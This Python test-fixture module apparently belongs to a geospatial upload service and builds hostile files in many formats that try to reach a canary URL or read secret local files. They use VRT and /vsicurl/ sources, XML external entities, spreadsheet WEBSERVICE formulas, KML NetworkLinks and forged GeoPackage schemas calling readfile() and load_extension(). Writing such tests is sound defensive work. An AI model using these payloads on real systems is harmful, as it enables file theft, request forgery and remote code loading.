"""Files that name an address or another file, in every format and disguise."""

import sqlite3
from collections.abc import Callable
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path

import geopandas
import orjson
import shapely

from tests.services.staging.make import POLYGON_JSON, collection, csv, feature, square
from tests.services.staging.pack import (
    GEOPACKAGE,
    KML,
    KMZ,
    SHAPEFILE,
    XLSX,
    cells,
    geopackage,
    kml,
    kml_polygon,
    placemark,
    shapefile,
    workbook,
    zipped,
)

GEOJSON = "application/geo+json"
CSV = "text/csv"


@dataclass(frozen=True)
class Canary:
    """What must never be touched: an address that listens, and files on the disk that hold a secret."""

    url: str
    geojson: Path
    geopackage: Path
    shapefile: Path
    folder: Path


def vrt(source: str) -> bytes:
    layer = f'<OGRVRTLayer name="secret"><SrcDataSource>{source}</SrcDataSource></OGRVRTLayer>'
    return f"<OGRVRTDataSource>{layer}</OGRVRTDataSource>".encode()


def good_shapefile(canary: Canary) -> dict[str, bytes]:
    return shapefile(geopandas.GeoDataFrame({"plotid": ["mine"]}, geometry=[shapely.box(10, 5, 10.01, 5.01)], crs=4326), canary.folder)


def hostile_geopackage(canary: Canary, *statements: str) -> bytes:
    frame = geopandas.GeoDataFrame({"plotid": ["mine"]}, geometry=[shapely.box(10, 5, 10.01, 5.01)], crs=4326)
    path = geopackage(frame, canary.folder, layer="plots")
    with closing(sqlite3.connect(path)) as database, database:
        for (name,) in database.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall():
            database.execute(f'DROP TRIGGER "{name}"')
        for statement in statements:
            database.execute(statement)
    return path.read_bytes()


def forged_schema(canary: Canary, sql: str) -> bytes:
    """A GeoPackage whose table of plots is what `sql` says: SQLite lets a file claim anything."""
    return hostile_geopackage(
        canary, "PRAGMA writable_schema = ON", f"UPDATE sqlite_master SET sql = '{sql}', rootpage = 0 WHERE name = 'plots'"
    )


def linked_workbook(canary: Canary) -> bytes:
    link = f'<Relationships><Relationship Id="r" Target="{canary.url}" TargetMode="External"/></Relationships>'
    members = {
        "xl/externalLinks/externalLink1.xml": '<externalLink><externalBook r:id="r"/></externalLink>',
        "xl/externalLinks/_rels/externalLink1.xml.rels": link,
        "xl/worksheets/_rels/sheet1.xml.rels": link,
        "xl/connections.xml": f'<connections><connection><webPr url="{canary.url}"/></connection></connections>',
    }
    square = "POLYGON ((10 5, 10.01 5, 10.01 5.01, 10 5))"
    return workbook(cells(["wkt", "plotid"], [square, f'=HYPERLINK("{canary.url}")']), members=members)


ANY_TYPE: dict[str, Callable[[Canary], bytes]] = {
    "a VRT of a local file": lambda canary: vrt(str(canary.geojson)),
    "a VRT of a URL": lambda canary: vrt(canary.url + ".geojson"),
    "a VRT of /vsicurl/": lambda canary: vrt(f"/vsicurl/{canary.url}.geojson"),
    "a path": lambda canary: str(canary.geojson).encode(),
    "a /vsizip/ path": lambda canary: f"/vsizip/vsicurl/{canary.url}.zip".encode(),
    "a URL": lambda canary: canary.url.encode(),
    "GDALG": lambda canary: orjson.dumps({"type": "gdal_streamed_alg", "command_line": f"gdal vector pipeline ! read {canary.geojson}"}),
    "an entity of a local file": lambda canary: f'<!DOCTYPE kml [<!ENTITY x SYSTEM "{canary.geojson.as_uri()}">]><kml>&x;</kml>'.encode(),
    "a parameter entity of a URL": lambda canary: f'<!DOCTYPE kml [<!ENTITY % x SYSTEM "{canary.url}">%x;]><kml/>'.encode(),
    "a zipped VRT": lambda canary: zipped({"plots.vrt": vrt(str(canary.geojson)), "doc.vrt": vrt(canary.url)}),
    "a VRT as .shp": lambda canary: zipped(good_shapefile(canary) | {"plots.shp": vrt(str(canary.geojson))}),
    "a VRT as .dbf": lambda canary: zipped(good_shapefile(canary) | {"plots.dbf": vrt(str(canary.geojson))}),
    "a VRT as doc.kml": lambda canary: zipped({"doc.kml": vrt(str(canary.geojson))}),
}

OF_A_TYPE: dict[str, tuple[str, Callable[[Canary], bytes]]] = {
    "a crs link": (
        GEOJSON,
        lambda c: orjson.dumps(collection(feature(square(10, 5)), crs={"type": "link", "properties": {"href": c.url}})),
    ),
    "a crs url": (GEOJSON, lambda c: orjson.dumps(collection(feature(square(10, 5)), crs={"type": "url", "properties": {"url": c.url}}))),
    "a crs name that is a URL": (
        GEOJSON,
        lambda c: orjson.dumps(collection(feature(square(10, 5)), crs={"type": "name", "properties": {"name": c.url}})),
    ),
    "a crs of one feature": (
        GEOJSON,
        lambda c: orjson.dumps(collection({**feature(square(10, 5)), "crs": {"type": "link", "properties": {"href": c.url}}})),
    ),
    "a formula": (CSV, lambda c: csv("wkt,plotid", f'"{POLYGON_JSON.replace(chr(34), chr(34) * 2)}",=WEBSERVICE("{c.url}")')),
    "a path as WKT": (CSV, lambda c: csv("wkt", str(c.geojson), c.url)),
    "a .prj that is a URL": (SHAPEFILE, lambda c: zipped(good_shapefile(c) | {"plots.prj": c.url.encode()})),
    "a .prj that names a grid": (
        SHAPEFILE,
        lambda c: zipped(good_shapefile(c) | {"plots.prj": f"+proj=longlat +nadgrids={c.url} +type=crs".encode()}),
    ),
    "a .prj that names a file": (SHAPEFILE, lambda c: zipped(good_shapefile(c) | {"plots.prj": f"+init={c.geojson}:4326".encode()})),
    "a .cpg that is a path": (SHAPEFILE, lambda c: zipped(good_shapefile(c) | {"plots.cpg": str(c.geojson).encode()})),
    "side files that point elsewhere": (
        SHAPEFILE,
        lambda c: zipped(
            good_shapefile(c)
            | {
                "plots.idm": f"<OGRMILayerAttrIndex><MIIDFilename>{c.geojson}</MIIDFilename></OGRMILayerAttrIndex>".encode(),
                "plots.shp.xml": vrt(c.url),
                "plots.vrt": vrt(str(c.shapefile)),
            }
        ),
    ),
    "a link to a file": (SHAPEFILE, lambda c: zipped(good_shapefile(c) | {"plots.dbf": str(c.shapefile).encode()}, mode=0o120777)),
    "a member elsewhere": (SHAPEFILE, lambda c: zipped({f"{c.folder}/secret{end}": b"" for end in (".shp", ".shx", ".dbf")})),
    "a NetworkLink": (
        KML,
        lambda c: kml(
            placemark(kml_polygon()),
            f"<NetworkLink><Link><href>{c.url}</href></Link></NetworkLink><NetworkLink><Url><href>{c.geojson}</href></Url></NetworkLink>",
        ),
    ),
    "a KML of outside references": (
        KML,
        lambda c: kml(
            f'<Schema id="s"/><Style><IconStyle><Icon><href>{c.url}</href></Icon></IconStyle></Style>',
            f'<Placemark><styleUrl>{c.url}#s</styleUrl><ExtendedData><SchemaData schemaUrl="{c.url}#s"/></ExtendedData>'
            f"<Model><Link><href>{c.url}</href></Link></Model></Placemark>",
            placemark(kml_polygon()),
        ),
    ),
    "a KML that includes": (
        KML,
        lambda c: kml(f'<include xmlns="http://www.w3.org/2001/XInclude" href="{c.geojson}" parse="text"/>', placemark(kml_polygon())),
    ),
    "a KMZ whose document links": (
        KMZ,
        lambda c: zipped({"doc.kml": kml(f"<NetworkLink><Link><href>{c.url}</href></Link></NetworkLink>"), "files/a.png": b""}),
    ),
    "an XLSX with links": (XLSX, linked_workbook),
    "an XLSX with an entity": (
        XLSX,
        lambda c: workbook(cells(["wkt"], ["POINT (10 5)"]), head=f'<!DOCTYPE x [<!ENTITY x SYSTEM "{c.geojson.as_uri()}">]>'),
    ),
    "a virtual table of a file": (GEOPACKAGE, lambda c: forged_schema(c, f'CREATE VIRTUAL TABLE plots USING VirtualOGR("{c.geojson}")')),
    "a virtual table of a shapefile": (
        GEOPACKAGE,
        lambda c: forged_schema(c, f'CREATE VIRTUAL TABLE plots USING VirtualShape("{c.shapefile.with_suffix("")}", "UTF-8", 4326)'),
    ),
    "a virtual table of a CSV": (GEOPACKAGE, lambda c: forged_schema(c, f'CREATE VIRTUAL TABLE plots USING csv(filename="{c.geojson}")')),
    "a view": (
        GEOPACKAGE,
        lambda c: hostile_geopackage(c, "ALTER TABLE plots RENAME TO hidden", "CREATE VIEW plots AS SELECT * FROM hidden"),
    ),
    "a view that calls": (
        GEOPACKAGE,
        lambda c: hostile_geopackage(
            c,
            "DROP TABLE plots",
            f"CREATE VIEW plots AS SELECT 1 AS fid, readfile('{c.geojson}') AS geom, load_extension('{c.url}') AS plotid",
        ),
    ),
    "a column that calls": (
        GEOPACKAGE,
        lambda c: forged_schema(c, f'CREATE TABLE plots (fid, geom, plotid GENERATED ALWAYS AS (load_extension("{c.url}")))'),
    ),
    "a layer of another database": (
        GEOPACKAGE,
        lambda c: hostile_geopackage(
            c,
            "PRAGMA foreign_keys = OFF",
            *(f"UPDATE {table} SET table_name = 'file:{c.geopackage}'" for table in ("gpkg_contents", "gpkg_geometry_columns")),
        ),
    ),
    "a definition that is a URL": (
        GEOPACKAGE,
        lambda c: hostile_geopackage(
            c, f"UPDATE gpkg_spatial_ref_sys SET organization = 'NONE', definition = '{c.url}' WHERE srs_id = 4326"
        ),
    ),
    "an attached index": (
        GEOPACKAGE,
        lambda c: hostile_geopackage(c, "CREATE TRIGGER t AFTER INSERT ON plots BEGIN SELECT readfile('x'); END"),
    ),
}
